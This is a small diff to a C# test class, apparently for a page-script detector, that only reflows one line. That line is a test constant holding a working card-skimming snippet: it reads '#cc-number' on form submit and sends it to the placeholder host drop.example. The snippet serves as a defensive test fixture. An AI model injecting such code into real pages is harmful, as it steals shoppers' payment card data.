@@ -13,7 +13,8 @@ namespace PageShield.Tests.Detection;
 /// <summary>String tables and loops that build code, in the forms that obfuscators, minifiers over them, and packers leave.</summary>
 public sealed class DecoderTests
 {
-    private const string Skimmer = "document.forms[0].onsubmit=function(){new Image().src='https://drop.example/x.gif?c='+document.querySelector('#cc-number').value};";
+    private const string Skimmer =
+        "document.forms[0].onsubmit=function(){new Image().src='https://drop.example/x.gif?c='+document.querySelector('#cc-number').value};";
     private const string Honest = "document.querySelector('#copy').onclick=function(){navigator.clipboard.writeText(location.href)};";
 
     private static readonly ScriptJudge _judge = new();
